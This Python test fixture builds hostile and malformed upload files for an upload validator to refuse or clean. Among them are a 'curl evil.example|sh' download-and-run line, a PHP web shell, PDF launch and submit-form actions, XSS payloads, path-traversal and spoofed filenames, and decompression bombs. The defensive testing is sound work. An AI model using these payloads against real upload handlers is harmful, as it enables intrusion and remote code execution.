"""Files that somebody careless or hostile could send: what they are, and what must become of them."""

import gzip
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from io import BytesIO

from PIL import Image, PngImagePlugin

from exams.tests.pictures import a_pdf, a_picture, a_stream, written

# Stands in what is hidden: nothing that is kept or shown may hold it.
CANARY = b"KanariePayload"
SCRIPT = b"<script>/*" + CANARY + b"*/alert(1)</script>"
HTML = b"<!doctype html><html><body>" + SCRIPT + b"</body></html>"
REFUSED, CLEANED = "refused", "cleaned"


@dataclass(frozen=True)
class Bad:
    """One file: its kind of badness, what it says it is, and its fate."""

    group: str
    what: str
    content: bytes
    fate: str = REFUSED
    name: str = "scan.jpg"
    declared: str = "image/jpeg"
    turned: int = 0


def all_of_them() -> list[Bad]:
    """Return every bad file."""
    makers = (
        _wrong_kinds, _cut_off, _bombs, _moving, _active_pdfs, _odd_pdfs, _two_at_once, _told_too_much,
        _odd_pixels, _names, _turned,
    )  # fmt: skip
    return [each for make in makers for each in make()]


def noise(size=(160, 120)) -> Image.Image:
    """Return a picture that does not compress, so that a cut hurts it."""
    return Image.effect_noise(size, 120).convert("RGB")


def _zip(*names) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name in names:
            archive.writestr(name, SCRIPT)
    return out.getvalue()


def _wrong_kinds() -> Iterator[Bad]:
    kinds = {
        "text": SCRIPT, "html": HTML, "svg": b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>",
        "svg after xml": b'<?xml version="1.0"?><svg onload="alert(1)"/>', "svgz": gzip.compress(b"<svg/>"),
        "gif": written(Image.new("P", (9, 9)), "GIF"), "gif with a script": b"GIF89a=1;" + SCRIPT,
        "bmp": a_picture("BMP"), "tiff": a_picture("TIFF"), "icon": a_picture("ICO"),
        "heic": b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00", "windows program": b"MZ\x90\x00" + bytes(200),
        "linux program": b"\x7fELF\x02\x01\x01" + bytes(200), "shell": b"#!/bin/sh\ncurl evil.example|sh\n",
        "php": b"<?php system($_GET['c']); ?>", "javascript": b"alert(1)//", "video": b"\x00\x00\x00\x18ftypmp42",
        "dicom": bytes(128) + b"DICM" + bytes(60), "zip": _zip("a.html"), "office": _zip("[Content_Types].xml", "word/vbaProject.bin"),
        "java": _zip("META-INF/MANIFEST.MF", "A.class"), "old office": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500),
        "rar": b"Rar!\x1a\x07\x01\x00", "gzip": gzip.compress(HTML), "postscript": b"%!PS-Adobe-3.0\n(x) run\n",
        "riff that is sound": b"RIFF\x24\x00\x00\x00WAVEfmt ", "letter": b"From: a@b.example\n\n" + HTML,
    }  # fmt: skip
    for what, content in kinds.items():
        yield Bad("wrong kind", what, content)


def _cut_off() -> Iterator[Bad]:
    whole = {kind: written(noise(), kind) for kind in ("JPEG", "PNG", "WEBP")}
    yield Bad("cut off", "empty", b"")
    yield Bad("cut off", "one byte", b"\xff")
    for kind, content in whole.items():
        yield Bad("cut off", f"{kind}, only its mark", content[:12])
        yield Bad("cut off", f"{kind}, a third", content[: len(content) // 3])
    yield Bad("cut off", "JPEG, nearly whole", whole["JPEG"][:-900])
    yield Bad("cut off", "PNG, a byte changed", whole["PNG"][:60] + b"\x00" + whole["PNG"][61:])
    yield Bad("cut off", "JPEG mark before HTML", b"\xff\xd8\xff\xe0" + HTML)
    yield Bad("cut off", "PNG mark before HTML", b"\x89PNG\r\n\x1a\n" + HTML)
    yield Bad("cut off", "PDF, half", a_pdf()[:300], declared="application/pdf", name="r.pdf")
    yield Bad(
        "cut off", "PDF, only its mark", b"%PDF-1.7\n", declared="application/pdf", name="r.pdf"
    )


def _png(width, height, depth=1, colour=0) -> bytes:
    """Return a PNG of noughts, however large, in a few bytes."""

    def chunk(kind, data):
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    row = bytes(1 + (width * depth + 7) // 8)
    pack = zlib.compressobj(9)
    data = b"".join(pack.compress(row) for _row in range(height)) + pack.flush()
    head = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def _bombs() -> Iterator[Bad]:
    yield Bad("bomb", "50.4 million pixels", _png(7_100, 7_100))
    yield Bad("bomb", "a side too long", _png(16_400, 20))
    yield Bad(
        "bomb",
        "10 000 million pixels",
        _png(8, 8).replace(struct.pack(">II", 8, 8), struct.pack(">II", 100_000, 100_000)),
    )
    said = a_picture("JPEG", size=(64, 48))
    yield Bad(
        "bomb",
        "JPEG that says 65000 × 65000",
        said.replace(struct.pack(">HH", 48, 64), struct.pack(">HH", 65_000, 65_000), 1),
    )
    packed = zlib.compress(b"1 0 " + bytes(70 * 1024 * 1024), 9)
    objects = a_stream(packed, b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode ")
    yield Bad("bomb", "PDF that unfolds", a_pdf(objects), declared="application/pdf", name="r.pdf")
    padding = bytes(10 * 1024 * 1024 + 1)
    yield Bad("too large", "JPEG and 10 MB more", a_picture() + padding)
    yield Bad(
        "too large",
        "PDF of 10 MB",
        a_pdf(a_stream(padding)),
        declared="application/pdf",
        name="r.pdf",
    )


def _moving() -> Iterator[Bad]:
    frames = [Image.new("RGB", (40, 40), (n * 60, 0, 0)) for n in range(3)]
    for kind in ("PNG", "WEBP"):
        content = written(frames[0], kind, save_all=True, append_images=frames[1:], duration=100)
        yield Bad("moving", kind, content)


def _pdf(group, what, content) -> Bad:
    return Bad(group, what, content, name="report.pdf", declared="application/pdf")


def _active_pdfs() -> Iterator[Bad]:
    acts = {
        "script": b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>", "script with hidden letters": b"<< /S /J#61vaScript /J#53 (x) >>",
        "program": b"<< /S /Launch /F (cmd.exe) >>", "files inside": b"<< /Names << /EmbeddedFiles 9 0 R >> >>",
        "a file attached": b"<< /Type /Annot /Subtype /FileAttachment >>", "form that sends": b"<< /S /SubmitForm /F (http://evil.example) >>",
        "form that fetches": b"<< /S /ImportData /F (x) >>", "another file opened": b"<< /S /GoToR /F (x.pdf) >>",
        "a file inside opened": b"<< /S /GoToE >>", "rich media": b"<< /Subtype /RichMedia >>", "forms of another kind": b"<< /XFA 9 0 R >>",
        "film": b"<< /Subtype /Movie >>", "sound": b"<< /S /Sound >>", "rendition": b"<< /S /Rendition >>",
        "a space": b"<< /Subtype /3D >>",
    }  # fmt: skip
    for what, body in acts.items():
        yield _pdf("active PDF", what, a_pdf(body))
    script = acts["script"]
    inside = b"9 0 " + script
    said = b"/Type /ObjStm /N 1 /First 4 "
    yield _pdf(
        "active PDF",
        "script in a packed object",
        a_pdf(a_stream(zlib.compress(inside), said + b"/Filter /FlateDecode ")),
    )
    yield _pdf("active PDF", "script in an object list", a_pdf(a_stream(inside, said)))
    yield _pdf(
        "active PDF",
        "script packed, its kind unsaid",
        a_pdf(a_stream(zlib.compress(inside), b"/Filter /FlateDecode ")),
    )
    yield _pdf(
        "active PDF",
        "script packed twice",
        a_pdf(
            a_stream(
                zlib.compress(inside).hex().encode(),
                said + b"/Filter [/ASCIIHexDecode /FlateDecode] ",
            )
        ),
    )
    hidden = b"9 0 obj\n" + script + b"\nendobj"
    yield _pdf("active PDF", "object inside a stream", a_pdf(a_stream(hidden)))
    yield _pdf(
        "active PDF",
        "object inside packed data",
        a_pdf(a_stream(zlib.compress(hidden, 0), b"/Filter /FlateDecode ")),
    )
    pretends = b"<< /X (>>\nstream\n) /S /JavaScript /JS (x) /Y (endstream) >>"
    yield _pdf("active PDF", "text that pretends to be a stream", a_pdf(pretends))


def _odd_pdfs() -> Iterator[Bad]:
    yield _pdf("odd PDF", "locked", a_pdf(trailer=b"/Encrypt 9 0 R "))
    yield _pdf("odd PDF", "101 pages", a_pdf(pages=101))
    yield _pdf("odd PDF", "no page", a_pdf(pages=0))
    yield _pdf("odd PDF", "of no version", b"%PDF-9.9" + a_pdf()[8:])
    yield _pdf("odd PDF", "HTML at its head", b"%PDF-1.7\n" + HTML + a_pdf()[9:])
    yield _pdf("odd PDF", "HTML behind it", a_pdf() + HTML)
    yield _pdf("odd PDF", "zip behind it", a_pdf() + _zip("A.class"))
    yield _pdf("odd PDF", "zip in it", a_pdf(a_stream(_zip("A.class"))))
    yield _pdf("odd PDF", "text before it", b"hello\n" + a_pdf())


def _two_at_once() -> Iterator[Bad]:
    """Pictures that are something else too: only the picture may be left."""
    jpeg, png = a_picture("JPEG"), a_picture("PNG")
    comment = b"\xff\xfe" + struct.pack(">H", len(HTML) + 2) + HTML
    yield Bad(
        "two at once",
        "HTML in a comment of a JPEG",
        jpeg[:2] + comment + jpeg[2:],
        CLEANED,
        "a.html",
    )
    yield Bad(
        "two at once",
        "JPEG and program behind it (GIFAR)",
        jpeg + _zip("A.class") + CANARY,
        CLEANED,
        "a.jar",
    )
    yield Bad("two at once", "JPEG and HTML behind it", jpeg + HTML, CLEANED)
    yield Bad("two at once", "JPEG and PDF behind it", jpeg + a_pdf(b"(" + CANARY + b")"), CLEANED)
    yield Bad(
        "two at once", "PNG and PHP behind it", png + b"<?php " + CANARY, CLEANED, "a.php.png"
    )
    facts = PngImagePlugin.PngInfo()
    facts.add_text("Comment", HTML.decode())
    facts.add_itxt("XML:com.adobe.xmp", SCRIPT.decode())
    yield Bad("two at once", "HTML in a PNG's text", a_picture("PNG", pnginfo=facts), CLEANED)
    webp = a_picture("WEBP", xmp=SCRIPT)
    yield Bad("two at once", "script in a WebP", webp, CLEANED, declared="image/webp")


def _exif(**more) -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F], exif[0x013B] = CANARY.decode(), SCRIPT.decode()
    exif.get_ifd(0x8825).update(
        {1: "N", 2: (51.0, 30.0, 0.0), 3: "W", 4: (0.0, 7.0, 0.0), 29: CANARY.decode()}
    )
    exif.update(more)
    return exif


def _told_too_much() -> Iterator[Bad]:
    for kind in ("JPEG", "PNG", "WEBP"):
        content = a_picture(kind, exif=_exif().tobytes())
        assert CANARY in content
        yield Bad("told too much", f"{kind} with its place and its maker", content, CLEANED)
    yield Bad(
        "told too much",
        "colour profile",
        a_picture("PNG", icc_profile=bytes(128) + CANARY),
        CLEANED,
    )
    yield Bad(
        "told too much",
        "colour profile of a JPEG",
        a_picture("JPEG", icc_profile=bytes(128) + CANARY),
        CLEANED,
    )


def _odd_pixels() -> Iterator[Bad]:
    cmyk = written(Image.new("CMYK", (40, 30), (0, 80, 40, 10)), "JPEG", comment=CANARY)
    yield Bad("odd pixels", "four colours of print", cmyk, CLEANED)
    yield Bad(
        "odd pixels",
        "16 bits of grey",
        written(Image.new("I;16", (40, 30), 30_000), "PNG"),
        CLEANED,
    )
    holes = Image.new("RGBA", (40, 30), (200, 0, 0, 0))
    yield Bad("odd pixels", "clear picture", written(holes, "PNG"), CLEANED)
    yield Bad("odd pixels", "of 256 colours", written(noise().quantize(200), "PNG"), CLEANED)
    yield Bad("odd pixels", "black and white", written(Image.new("1", (40, 30)), "PNG"), CLEANED)


# Whatever the name says, the content decides; the name is kept and shown nowhere.
NAMES = (
    "../../../../etc/cron.d/KanariePayload", "..\\..\\windows\\KanariePayload.dll", "/etc/KanariePayload", "KanariePayload.php.jpg",
    "KanariePayload.jpg.html", "KanariePayload.svg", "KanariePayload\u202egpj.exe", "\u2066KanariePayload\u2069.jpg", "KanariePayload\u200b.jpg",
    "Kanarie\u0000Payload.jpg", "KanariePayload.jpg;.asp", "CON.KanariePayload", "KanariePayload" + "a" * 300 + ".jpg",
    "<img src=x onerror=alert(1)>KanariePayload.jpg", "KanariePayload%2e%2e%2f.jpg", "", ".htaccess",
)  # fmt: skip


def _names() -> Iterator[Bad]:
    for number, name in enumerate(NAMES):
        kind = "text/html" if number % 2 else "image/jpeg"
        yield Bad("name", repr(name[:30]), a_picture(), CLEANED, name, kind)
        if number % 4 == 0 or "\u202e" in name:
            yield Bad("name", f"{name[:30]!r} of HTML", HTML, REFUSED, name)


def _turned() -> Iterator[Bad]:
    """An L of red at the top left, stored turned in each of the eight ways a camera may."""
    upright = Image.new("RGB", (60, 40), (255, 255, 255))
    upright.paste((200, 0, 0), (0, 0, 20, 14))
    back = {
        1: None, 2: Image.Transpose.FLIP_LEFT_RIGHT, 3: Image.Transpose.ROTATE_180, 4: Image.Transpose.FLIP_TOP_BOTTOM,
        5: Image.Transpose.TRANSPOSE, 6: Image.Transpose.ROTATE_90, 7: Image.Transpose.TRANSVERSE, 8: Image.Transpose.ROTATE_270,
    }  # fmt: skip
    for way, turn in back.items():
        stored = upright if turn is None else upright.transpose(turn)
        exif = Image.Exif()
        exif[0x0112] = way
        content = written(stored, "JPEG", exif=exif.tobytes(), quality=95)
        yield Bad("turned", f"orientation {way}", content, CLEANED, turned=way)
